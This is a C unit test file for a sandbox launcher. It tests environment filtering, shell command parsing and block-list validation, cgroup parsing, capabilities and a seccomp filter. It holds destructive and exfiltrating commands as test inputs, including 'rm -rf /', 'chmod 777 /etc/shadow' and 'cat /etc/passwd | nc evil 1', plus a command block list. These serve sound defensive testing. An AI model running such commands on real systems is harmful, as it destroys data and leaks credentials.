// SPDX-License-Identifier: GPL-2.0
/*
 * The sandbox launcher's pure parts: environment rules, command validation,
 * cgroup file parsing, resource violations, tmpfs options, capability masks,
 * and the seccomp filter (loaded in a forked child, which needs no root).
 */
#include <errno.h>
#include <linux/capability.h>
#include <sched.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cmocka.h>

#include "sandbox/sandbox.h"

#define STRS(...)                                                                                  \
	((struct hx_strings){ .v = (char *[]){ __VA_ARGS__ },                                      \
			      .n = sizeof((char *[]){ __VA_ARGS__ }) / sizeof(char *) })
#define NONE ((struct hx_strings){ 0 })

/* ---- environment ---- */

static bool has(char **env, const char *kv)
{
	for (; *env; env++)
		if (!strcmp(*env, kv))
			return true;
	return false;
}

static size_t count(char **env)
{
	size_t n = 0;

	while (env[n])
		n++;
	return n;
}

static char *host_env[] = {
	"PATH=/usr/bin:/bin",
	"HOME=/root",
	"LANG=C.UTF-8",
	"AWS_SECRET_ACCESS_KEY=x",
	"AWS_REGION=eu",
	"API_KEY=k",
	"DB_SECRET=s",
	"GOOGLE_APPLICATION_CREDENTIALS=/g",
	"TERM=dumb",
	"PATH=/second",
	"NOEQUALS",
	"=novalue",
	NULL,
};

static void test_env_inherit_false_starts_empty(void **state)
{
	struct hx_env_policy p = { .inherit = HX_NO };
	char **out;

	assert_int_equal(0, hx_env_build(&p, HX_UNSET, host_env, &out));
	assert_int_equal(0, count(out));
	hx_env_free(out);
	/* unset means false: start from empty */
	p.inherit = HX_UNSET;
	assert_int_equal(0, hx_env_build(&p, HX_UNSET, host_env, &out));
	assert_int_equal(0, count(out));
	hx_env_free(out);
}

static void test_env_allowed_vars_pass(void **state)
{
	struct hx_env_policy p = { .inherit = HX_NO, .allowed_vars = STRS("PATH", "HOME", "LANG") };
	char **out;

	assert_int_equal(0, hx_env_build(&p, HX_UNSET, host_env, &out));
	assert_int_equal(3, count(out));
	assert_true(has(out, "PATH=/usr/bin:/bin")); /* the first definition, as getenv sees it */
	assert_true(has(out, "HOME=/root"));
	assert_true(has(out, "LANG=C.UTF-8"));
	hx_env_free(out);
}

static void test_env_blocked_globs_win(void **state)
{
	struct hx_env_policy p = {
		.inherit = HX_YES,
		.allowed_vars = STRS("AWS_*"),
		.blocked_vars = STRS("AWS_*", "GOOGLE_*", "*_KEY", "*_SECRET"),
	};
	char **out;

	assert_int_equal(0, hx_env_build(&p, HX_UNSET, host_env, &out));
	assert_false(has(out, "AWS_SECRET_ACCESS_KEY=x"));
	assert_false(has(out, "AWS_REGION=eu"));
	assert_false(has(out, "API_KEY=k"));
	assert_false(has(out, "DB_SECRET=s"));
	assert_false(has(out, "GOOGLE_APPLICATION_CREDENTIALS=/g"));
	assert_true(has(out, "TERM=dumb"));
	assert_true(has(out, "PATH=/usr/bin:/bin"));
	assert_false(has(out, "PATH=/second"));
	assert_false(has(out, "NOEQUALS"));
	assert_false(has(out, "=novalue"));
	assert_int_equal(4, count(out)); /* PATH HOME LANG TERM */
	hx_env_free(out);
}

static void test_env_allowed_glob_and_blocked(void **state)
{
	struct hx_env_policy p = {
		.inherit = HX_NO,
		.allowed_vars = STRS("AWS_*", "L?NG"),
		.blocked_vars = STRS("*_KEY"),
	};
	char **out;

	assert_int_equal(0, hx_env_build(&p, HX_UNSET, host_env, &out));
	assert_true(has(out, "AWS_REGION=eu"));
	assert_false(has(out, "AWS_SECRET_ACCESS_KEY=x"));
	assert_true(has(out, "LANG=C.UTF-8"));
	assert_int_equal(2, count(out));
	hx_env_free(out);
}

static void test_env_allow_environment_false_passes_nothing(void **state)
{
	struct hx_env_policy p = { .inherit = HX_YES };
	char **out;

	assert_int_equal(0, hx_env_build(&p, HX_NO, host_env, &out));
	assert_int_equal(0, count(out));
	hx_env_free(out);
}

static void test_env_long_names(void **state)
{
	char name[600], *env[2] = { name, NULL };
	struct hx_env_policy p = { .inherit = HX_YES, .blocked_vars = STRS("*_KEY") };
	char **out;

	memset(name, 'A', sizeof(name));
	strcpy(name + 500, "_KEY=1");
	assert_int_equal(0, hx_env_build(&p, HX_UNSET, env, &out));
	assert_int_equal(0, count(out));
	hx_env_free(out);
}

/* ---- command validation ---- */

static void expect_cmds(const char *s, const char *const *want, size_t n)
{
	struct hx_strings got = { 0 };

	assert_int_equal(0, hx_cmd_simple_commands(s, &got));
	if (got.n != n) {
		for (size_t i = 0; i < got.n; i++)
			print_message("  got[%zu] = '%s'\n", i, got.v[i]);
		fail_msg("'%s': %zu commands, expected %zu", s, got.n, n);
	}
	for (size_t i = 0; i < n; i++)
		assert_string_equal(want[i], got.v[i]);
	hx_cmd_strings_free(&got);
}

#define EXPECT(s, ...)                                                                             \
	expect_cmds(s, (const char *const[]){ __VA_ARGS__ },                                       \
		    sizeof((const char *const[]){ __VA_ARGS__ }) / sizeof(const char *))

static void test_cmd_split_and_normalise(void **state)
{
	EXPECT("ls -l", "ls -l");
	EXPECT("  /bin/rm   -rf\t/tmp/x ", "rm -rf /tmp/x");
	EXPECT("true; rm -rf /", "true", "rm -rf /");
	EXPECT("a && b || c | d & e", "a", "b", "c", "d", "e");
	EXPECT("echo 'rm -rf /'", "echo rm -rf /");
	EXPECT("\"r\"m -\\rf x", "rm -rf x");
	EXPECT("FOO=1 BAR=2 rm -rf /", "rm -rf /");
	EXPECT("(cd /; rm -rf x)", "cd /", "rm -rf x");
	EXPECT("ls > out 2>&1", "ls");
	EXPECT("ls 2>/dev/null", "ls");
	EXPECT("cat <in", "cat");
	EXPECT("echo a # rm -rf /\nls", "echo a", "ls");
	EXPECT("echo a\\\nb", "echo ab");
}

static void test_cmd_substitutions_are_checked(void **state)
{
	EXPECT("echo $(rm -rf /)", "rm -rf /", "echo $(...)");
	EXPECT("echo `sudo id`", "sudo id", "id", "echo $(...)");
	EXPECT("echo \"x $(chmod 777 /etc) y\"", "chmod 777 /etc", "echo x $(...) y");
	EXPECT("echo \"a;b|c\"", "echo a;b|c");
}

static void test_cmd_wrappers_and_shells(void **state)
{
	EXPECT("sudo -u root rm -rf /", "sudo -u root rm -rf /", "rm -rf /");
	EXPECT("env -i A=1 rm -rf /", "env -i A=1 rm -rf /", "rm -rf /");
	EXPECT("nice -n 5 rm -rf /", "nice -n 5 rm -rf /", "rm -rf /");
	EXPECT("timeout -s KILL 5 rm -rf /", "timeout -s KILL 5 rm -rf /", "rm -rf /");
	EXPECT("exec rm -rf /", "exec rm -rf /", "rm -rf /");
	EXPECT("busybox rm -rf /", "busybox rm -rf /", "rm -rf /");
	EXPECT("sh -c 'rm -rf /'", "sh -c rm -rf /", "rm -rf /");
	EXPECT("/bin/bash -ec \"chown a b; ls\"", "bash -ec chown a b; ls", "chown a b", "ls");
	EXPECT("eval rm -rf /", "eval rm -rf /", "rm -rf /");
	EXPECT("xargs -n 1 rm -rf", "xargs -n 1 rm -rf", "rm -rf");
}

static void test_cmd_nesting_is_bounded(void **state)
{
	char s[4096] = "";
	struct hx_strings got = { 0 };

	for (int i = 0; i < 40; i++)
		strcat(s, "$(");
	strcat(s, "id");
	for (int i = 0; i < 40; i++)
		strcat(s, ")");
	assert_int_equal(-ELOOP, hx_cmd_simple_commands(s, &got));
	assert_int_equal(0, got.n);
}

static char *seed_blocked[] = { "rm -rf", "sudo", "chmod", "chown" };
static char *seed_patterns[] = { ".*\\|.*", ".*>.*", ".*`.*" };

static struct hx_cmd_validation seed_validation(void)
{
	/* tools.security.command_validation of the seed */
	return (struct hx_cmd_validation){
		.enabled = HX_YES,
		.blocked_commands = { .v = seed_blocked, .n = 4 },
		.blocked_patterns = { .v = seed_patterns, .n = 3 },
	};
}

static void expect_refused(const struct hx_cmd_validation *v, const char *cmd, const char *list,
			   size_t idx)
{
	struct hx_cmd_verdict vd;

	assert_int_equal(0, hx_cmd_validate_shell(v, cmd, &vd));
	if (!vd.refused)
		fail_msg("'%s' was not refused", cmd);
	assert_string_equal(list, vd.list);
	assert_int_equal(idx, vd.index);
}

static void expect_allowed(const struct hx_cmd_validation *v, const char *cmd)
{
	struct hx_cmd_verdict vd;

	assert_int_equal(0, hx_cmd_validate_shell(v, cmd, &vd));
	if (vd.refused)
		fail_msg("'%s' was refused by %s[%zu] (%s)", cmd, vd.list, vd.index, vd.command);
}

static void test_cmd_validation_seed_rules(void **state)
{
	struct hx_cmd_validation v = seed_validation();

	expect_allowed(&v, "ls -l /tmp");
	expect_allowed(&v, "echo hello");
	expect_allowed(&v, "rm -f /tmp/x"); /* not "rm -rf" */
	expect_refused(&v, "rm -rf /tmp/x", "blocked_commands", 0);
	expect_refused(&v, "sudo ls", "blocked_commands", 1);
	expect_refused(&v, "chmod 777 /etc/shadow", "blocked_commands", 2);
	expect_refused(&v, "cat /etc/passwd | nc evil 1", "blocked_patterns", 0);
	expect_refused(&v, "echo x > /etc/passwd", "blocked_patterns", 1);
	expect_refused(&v, "echo `id`", "blocked_patterns", 2);
}

static void test_cmd_validation_resists_spelling(void **state)
{
	struct hx_cmd_validation v = seed_validation();

	expect_refused(&v, "  rm -rf /", "blocked_commands", 0);
	expect_refused(&v, "/bin/rm -rf /", "blocked_commands", 0);
	expect_refused(&v, "rm  -rf /", "blocked_commands", 0);
	expect_refused(&v, "true; rm -rf /", "blocked_commands", 0);
	expect_refused(&v, "true && sudo id", "blocked_commands", 1);
	expect_refused(&v, "env rm -rf /", "blocked_commands", 0);
	expect_refused(&v, "X=1 chown a b", "blocked_commands", 3);
	expect_refused(&v, "sh -c 'chmod 777 /'", "blocked_commands", 2);
	expect_refused(&v, "echo $(sudo id)", "blocked_commands", 1);
	expect_refused(&v, "'r'm -rf /", "blocked_commands", 0);
}

static void test_cmd_validation_allowed_commands(void **state)
{
	struct hx_cmd_validation v = { .allowed_commands =
					       STRS("ls", "git status", "/usr/bin/echo") };

	expect_allowed(&v, "ls -l");
	expect_allowed(&v, "ls");
	expect_allowed(&v, "git status --short");
	expect_allowed(&v, "echo hi; /bin/ls");
	expect_refused(&v, "lsblk", "allowed_commands", 0);
	expect_refused(&v, "git push", "allowed_commands", 0);
	expect_refused(&v, "ls; id", "allowed_commands", 0);
}

static void test_cmd_validation_disabled_and_bad_pattern(void **state)
{
	struct hx_cmd_validation v = seed_validation();
	struct hx_cmd_verdict vd;

	v.enabled = HX_NO;
	expect_allowed(&v, "rm -rf /");
	v = (struct hx_cmd_validation){ .blocked_patterns = STRS("(unclosed") };
	assert_int_equal(-EINVAL, hx_cmd_validate_shell(&v, "ls", &vd));
	assert_string_equal("(unclosed", vd.entry);
}

static void test_cmd_validation_argv_form(void **state)
{
	struct hx_cmd_validation v = seed_validation();
	struct hx_cmd_verdict vd;
	char *ok[] = { "echo", "a|b", ">c", NULL };
	char *bad[] = { "/usr/bin/sudo", "id", NULL };
	char *nested[] = { "sh", "-c", "true; rm -rf /", NULL };

	/* no shell, so no patterns: metacharacters in arguments are plain bytes */
	assert_int_equal(0, hx_cmd_validate_argv(&v, ok, &vd));
	assert_false(vd.refused);
	assert_int_equal(0, hx_cmd_validate_argv(&v, bad, &vd));
	assert_true(vd.refused);
	assert_string_equal("sudo", vd.entry);
	assert_int_equal(0, hx_cmd_validate_argv(&v, nested, &vd));
	assert_true(vd.refused);
	assert_string_equal("rm -rf", vd.entry);
}

/* ---- cgroup files, monitoring ---- */

static void test_kv_find(void **state)
{
	const char *ev = "low 0\nhigh 0\nmax 12\noom 3\noom_kill 2\noom_group_kill 0\n";
	uint64_t v;

	assert_int_equal(0, hx_kv_find(ev, "max", &v));
	assert_int_equal(12, v);
	assert_int_equal(0, hx_kv_find(ev, "oom", &v));
	assert_int_equal(3, v);
	assert_int_equal(0, hx_kv_find(ev, "oom_kill", &v));
	assert_int_equal(2, v);
	assert_int_equal(-ENOENT, hx_kv_find(ev, "oom_kil", &v));
	assert_int_equal(-ENOENT, hx_kv_find("", "max", &v));
	assert_int_equal(0, hx_kv_find("populated 1", "populated", &v));
	assert_int_equal(1, v);
}

static void test_cpu_max_format(void **state)
{
	char b[64];

	assert_int_equal(0, hx_cpu_max_format(500, b, sizeof(b)));
	assert_string_equal("50000 100000", b);
	assert_int_equal(0, hx_cpu_max_format(1000, b, sizeof(b)));
	assert_string_equal("100000 100000", b);
	assert_int_equal(0, hx_cpu_max_format(2500, b, sizeof(b)));
	assert_string_equal("250000 100000", b);
	/* below the kernel's 1 ms minimum: written as is, the kernel refuses it */
	assert_int_equal(0, hx_cpu_max_format(1, b, sizeof(b)));
	assert_string_equal("100 100000", b);
}

static void test_monitor_reports_each_kind_once(void **state)
{
	struct hx_limits l = { .max_memory = 32 << 20, .max_processes = 10, .max_cpu_milli = 200 };
	struct hx_runcg_stats a = { 0 }, b = { 0 };
	struct hx_violation v[HX_VIO_MAX];
	unsigned rep = 0;
	size_t n;

	b.mem_oom_kill = 1;
	b.mem_oom = 1;
	b.mem_peak = 40 << 20;
	b.pids_max = 3;
	b.pids_current = 10;
	n = hx_monitor_diff(&l, &a, &b, 1000, &rep, v, HX_VIO_MAX);
	assert_int_equal(3, n);
	assert_int_equal(HX_VIO_MEMORY_OOM, v[0].kind);
	assert_int_equal(HX_VIO_MEMORY_OOM_KILL, v[1].kind);
	assert_string_equal("memory.events:oom_kill", v[1].counter);
	assert_int_equal(32 << 20, v[1].limit);
	assert_int_equal(40 << 20, v[1].current);
	assert_string_equal("max_memory", v[1].limit_name);
	assert_int_equal(HX_VIO_PIDS_MAX, v[2].kind);
	assert_int_equal(10, v[2].limit);
	assert_int_equal(10, v[2].current);
	assert_int_equal(3, v[2].count);
	/* without a peak file, a counter that moved means the limit was reached */
	rep = 0;
	b.mem_peak = 0;
	b.mem_current = 1 << 20;
	b.pids_current = 2;
	n = hx_monitor_diff(&l, &a, &b, 1000, &rep, v, HX_VIO_MAX);
	assert_int_equal(3, n);
	assert_int_equal(32 << 20, v[1].current);
	assert_int_equal(10, v[2].current);
	b.mem_current = 0;
	b.pids_current = 10;
	/* the counters keep moving: nothing new */
	b.mem_oom_kill = 2;
	b.pids_max = 9;
	assert_int_equal(0, hx_monitor_diff(&l, &a, &b, 2000, &rep, v, HX_VIO_MAX));
	/* throttling, first seen now: usage 150 ms over 1 s is 150 millicpu */
	b.cpu_nr_throttled = 4;
	b.cpu_usage_usec = 150000;
	n = hx_monitor_diff(&l, &a, &b, 1000, &rep, v, HX_VIO_MAX);
	assert_int_equal(1, n);
	assert_int_equal(HX_VIO_CPU_THROTTLED, v[0].kind);
	assert_int_equal(200, v[0].limit);
	assert_int_equal(150, v[0].current);
}

static void test_monitor_ignores_unlimited(void **state)
{
	struct hx_limits l = { 0 };
	struct hx_runcg_stats a = { 0 }, b = { .mem_oom_kill = 1, .pids_max = 1 };
	struct hx_violation v[HX_VIO_MAX];
	unsigned rep = 0;

	assert_int_equal(0, hx_monitor_diff(&l, &a, &b, 10, &rep, v, HX_VIO_MAX));
	l.max_execution_ms = 2000;
	hx_monitor_timeout(&l, 2003, &v[0]);
	assert_int_equal(HX_VIO_TIMEOUT, v[0].kind);
	assert_int_equal(2000, v[0].limit);
	assert_int_equal(2003, v[0].current);
	assert_string_equal("max_execution_time", v[0].limit_name);
}

static void test_mountinfo_v1_hybrid_layout(void **state)
{
	const char *mi =
		"25 30 0:23 / /sys/fs/cgroup ro,nosuid,nodev,noexec shared:9 - tmpfs tmpfs ro,mode=755\n"
		"26 25 0:24 / /sys/fs/cgroup/unified rw,nosuid shared:10 - cgroup2 cgroup2 rw,nsdelegate\n"
		"27 25 0:25 / /sys/fs/cgroup/systemd rw,nosuid shared:11 - cgroup cgroup rw,xattr,name=systemd\n"
		"33 25 0:31 / /sys/fs/cgroup/cpuset rw,nosuid shared:17 - cgroup cgroup rw,cpuset\n"
		"30 25 0:28 / /sys/fs/cgroup/cpu,cpuacct rw,nosuid shared:14 - cgroup cgroup rw,cpu,cpuacct\n"
		"31 25 0:29 / /sys/fs/cgroup/memory rw,nosuid shared:15 master:3 - cgroup cgroup rw,memory\n"
		"32 25 0:30 / /sys/fs/cgroup/pids rw,nosuid - cgroup cgroup rw,pids";
	char out[256];

	assert_int_equal(0, hx_mountinfo_v1(mi, "cpu", out, sizeof(out)));
	assert_string_equal("/sys/fs/cgroup/cpu,cpuacct", out);
	assert_int_equal(0, hx_mountinfo_v1(mi, "memory", out, sizeof(out)));
	assert_string_equal("/sys/fs/cgroup/memory", out);
	assert_int_equal(0, hx_mountinfo_v1(mi, "pids", out, sizeof(out)));
	assert_string_equal("/sys/fs/cgroup/pids", out);
	assert_int_equal(-ENOENT, hx_mountinfo_v1(mi, "blkio", out, sizeof(out)));
	assert_int_equal(-ENOENT, hx_mountinfo_v1("", "cpu", out, sizeof(out)));
	/* a unified-only host: no v1 hierarchy at all */
	assert_int_equal(-ENOENT,
			 hx_mountinfo_v1("26 25 0:24 / /sys/fs/cgroup rw - cgroup2 cgroup2 rw\n",
					 "memory", out, sizeof(out)));
}

/* ---- mounts, capabilities ---- */

static void test_tmpfs_spec(void **state)
{
	char path[256], data[256];
	unsigned long f;

	assert_int_equal(0, hx_tmpfs_parse("/run", path, sizeof(path), &f, data, sizeof(data)));
	assert_string_equal("/run", path);
	assert_string_equal("mode=1777", data);
	assert_true(f & MS_NOSUID);
	assert_true(f & MS_NODEV);
	assert_false(f & MS_RDONLY);
	assert_int_equal(0, hx_tmpfs_parse("/tmp:size=64m,noexec,mode=0700", path, sizeof(path), &f,
					   data, sizeof(data)));
	assert_string_equal("/tmp", path);
	assert_string_equal("size=64m,mode=0700", data);
	assert_true(f & MS_NOEXEC);
	assert_int_equal(0, hx_tmpfs_parse("/x:ro", path, sizeof(path), &f, data, sizeof(data)));
	assert_true(f & MS_RDONLY);
	assert_int_equal(-EINVAL,
			 hx_tmpfs_parse("relative", path, sizeof(path), &f, data, sizeof(data)));
	assert_int_equal(-EINVAL,
			 hx_tmpfs_parse("/x:bogus", path, sizeof(path), &f, data, sizeof(data)));
	assert_int_equal(-EINVAL,
			 hx_tmpfs_parse(":size=1", path, sizeof(path), &f, data, sizeof(data)));
}

static void test_caps_keep_mask(void **state)
{
	struct hx_caps all_but = { .present = true,
				   .drop = ~0ull,
				   .add = 1ull << CAP_NET_BIND_SERVICE };
	struct hx_caps some = { .present = true,
				.drop = (1ull << CAP_CHOWN) | (1ull << CAP_SYS_ADMIN) };

	assert_int_equal(1ull << CAP_NET_BIND_SERVICE, hx_caps_keep_mask(&all_but, 40));
	assert_int_equal(((1ull << 41) - 1) & ~((1ull << CAP_CHOWN) | (1ull << CAP_SYS_ADMIN)),
			 hx_caps_keep_mask(&some, 40));
	/* capabilities this kernel does not have are never kept */
	assert_int_equal((1ull << 38) - 1 - (1ull << CAP_CHOWN) - (1ull << CAP_SYS_ADMIN),
			 hx_caps_keep_mask(&some, 37));
}

/* ---- seccomp (in a child: a filter cannot be removed) ---- */

static void test_seccomp_denies_with_eperm(void **state)
{
	int pfd[2], status;
	char res[256] = "";
	pid_t pid;

	assert_int_equal(0, pipe(pfd));
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		char out[256];
		int n = 0;

		close(pfd[0]);
		if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || hx_seccomp_load())
			_exit(3);
#define TRY(name, call)                                                                            \
	do {                                                                                       \
		errno = 0;                                                                         \
		long r_ = (call);                                                                  \
		n += snprintf(out + n, sizeof(out) - (size_t)n, "%s=%s ", name,                    \
			      r_ < 0 && errno == EPERM ? "EPERM" : "other");                       \
	} while (0)
		TRY("keyctl", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0));
		TRY("ptrace", ptrace(PTRACE_TRACEME, 0, NULL, NULL));
		TRY("unshare", unshare(CLONE_NEWUTS));
		TRY("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
		TRY("bpf", syscall(SYS_bpf, 0, NULL, 0));
		TRY("init_module", syscall(SYS_init_module, NULL, 0, ""));
		TRY("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
		TRY("clone_newns", syscall(SYS_clone, CLONE_NEWNS | SIGCHLD, NULL, NULL, NULL, 0));
		errno = 0;
		n += snprintf(out + n, sizeof(out) - (size_t)n, "clone3=%s ",
			      syscall(SYS_clone3, NULL, 0) < 0 && errno == ENOSYS ? "ENOSYS" :
										    "other");
		n += snprintf(out + n, sizeof(out) - (size_t)n, "getpid=%s",
			      syscall(SYS_getpid) > 0 ? "ok" : "other");
		(void)!write(pfd[1], out, (size_t)n);
		_exit(0);
	}
	close(pfd[1]);
	assert_true(read(pfd[0], res, sizeof(res) - 1) > 0);
	close(pfd[0]);
	waitpid(pid, &status, 0);
	assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 0);
	assert_string_equal("keyctl=EPERM ptrace=EPERM unshare=EPERM mount=EPERM bpf=EPERM "
			    "init_module=EPERM kexec_load=EPERM clone_newns=EPERM clone3=ENOSYS "
			    "getpid=ok",
			    res);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_env_inherit_false_starts_empty),
		cmocka_unit_test(test_env_allowed_vars_pass),
		cmocka_unit_test(test_env_blocked_globs_win),
		cmocka_unit_test(test_env_allowed_glob_and_blocked),
		cmocka_unit_test(test_env_allow_environment_false_passes_nothing),
		cmocka_unit_test(test_env_long_names),
		cmocka_unit_test(test_cmd_split_and_normalise),
		cmocka_unit_test(test_cmd_substitutions_are_checked),
		cmocka_unit_test(test_cmd_wrappers_and_shells),
		cmocka_unit_test(test_cmd_nesting_is_bounded),
		cmocka_unit_test(test_cmd_validation_seed_rules),
		cmocka_unit_test(test_cmd_validation_resists_spelling),
		cmocka_unit_test(test_cmd_validation_allowed_commands),
		cmocka_unit_test(test_cmd_validation_disabled_and_bad_pattern),
		cmocka_unit_test(test_cmd_validation_argv_form),
		cmocka_unit_test(test_kv_find),
		cmocka_unit_test(test_cpu_max_format),
		cmocka_unit_test(test_mountinfo_v1_hybrid_layout),
		cmocka_unit_test(test_monitor_reports_each_kind_once),
		cmocka_unit_test(test_monitor_ignores_unlimited),
		cmocka_unit_test(test_tmpfs_spec),
		cmocka_unit_test(test_caps_keep_mask),
		cmocka_unit_test(test_seccomp_denies_with_eperm),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
